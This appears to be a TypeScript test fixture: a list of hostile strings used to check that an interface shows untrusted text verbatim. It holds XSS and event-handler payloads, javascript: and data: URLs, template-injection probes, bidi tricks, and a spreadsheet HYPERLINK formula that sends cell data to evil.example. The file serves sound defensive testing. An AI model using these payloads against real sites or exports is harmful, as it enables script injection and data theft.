// Text that must show as text: if any of it is ever parsed as markup, run as script or followed
// as a link, the security gate fails. Every payload that could run sets window.pwned, so a
// single flag tells whether anything executed.

const LONG = 'Ab'.repeat(5_000);

/** At least fifty hostile strings, each shown verbatim by a safe element. */
export const HOSTILE_STRINGS: readonly string[] = [
  // Script and event-handler injection
  '<script>window.pwned = "script"</script>',
  '<img src=x onerror="window.pwned = \'img\'">',
  '<svg onload="window.pwned = \'svg\'"></svg>',
  '<svg><script>window.pwned = "svg-script"</script></svg>',
  '<iframe src="javascript:window.parent.pwned = \'iframe\'"></iframe>',
  '<body onload="window.pwned = \'body\'">',
  '<details open ontoggle="window.pwned = \'details\'">',
  '<input autofocus onfocus="window.pwned = \'input\'">',
  '<video><source onerror="window.pwned = \'video\'"></video>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.pwned=\'mxss\'">',
  '"><img src=x onerror="window.pwned = \'attr-break\'">',
  "'><svg onload=\"window.pwned = 'single-quote'\">",
  '</textarea><img src=x onerror="window.pwned = \'textarea\'">',
  '</title><img src=x onerror="window.pwned = \'title\'">',
  '<a href="javascript:window.pwned = \'link\'">Click me</a>',
  '<object data="data:text/html,<script>window.parent.pwned = 1</script>"></object>',
  '<embed src="javascript:window.pwned = \'embed\'">',
  '<form action="javascript:window.pwned = \'form\'"><button>Go</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:window.pwned = 1">',
  '<style>*{display:none}</style>',
  '<link rel="stylesheet" href="data:text/css,*{display:none}">',
  '<base href="javascript:/">',
  // URLs that must never become links
  'javascript:window.pwned = "url"',
  'JaVaScRiPt:window.pwned = "mixed-case"',
  ' javascript:window.pwned = "leading-space"',
  'java\tscript:window.pwned = "tab"',
  'data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload="window.pwned = 1">',
  'vbscript:msgbox("pwned")',
  // Broken markup and entities
  '<b>bold?</b> <i>italic?',
  '<!-- comment --> after comment',
  '<![CDATA[ cdata ]]>',
  '&lt;script&gt; already escaped &amp; &#60;b&#62;',
  '<<<>>> unbalanced < and > signs',
  '<div style="position:fixed;inset:0;background:red">overlay</div>',
  // Template syntax of popular engines
  '${window.pwned = "template-literal"}',
  '{{constructor.constructor("window.pwned = 1")()}}',
  '<%= 7 * 7 %> {% raw %} #{7*7}',
  '[[${7*7}]] @{7*7} ~{7*7}',
  // Spreadsheet formulas (for exports)
  '=HYPERLINK("http://evil.example/?"&A1, "Click")',
  '+SUM(1+1)',
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  // Bidirectional overrides and invisible characters
  'Ana \u202Egnp.exe\u202C',
  '\u2066isolate\u2069 \u2067rtl isolate\u2069',
  'zero\u200Bwidth\u200Cjoiner\u200Dhere\uFEFF',
  '\u0645\u0631\u062D\u0628\u0627 mixed العربية and English',
  'Z\u0351\u0352\u0353a\u0354\u0355l\u0356\u0357g\u0358\u0359o',
  // Unusual but legitimate text
  'O\'Brien-Núñez "Quoted" & Sons',
  '👩🏽‍🏫 Ms. Nguyễn 🧑‍🤝‍🧑',
  '\u0000null\u0007bell',
  '   leading and trailing spaces   ',
  'line one\nline two\r\nline three',
  // Very long strings
  LONG,
  'x'.repeat(10_000),
  `https://example.org/${'a'.repeat(9_980)}`,
];
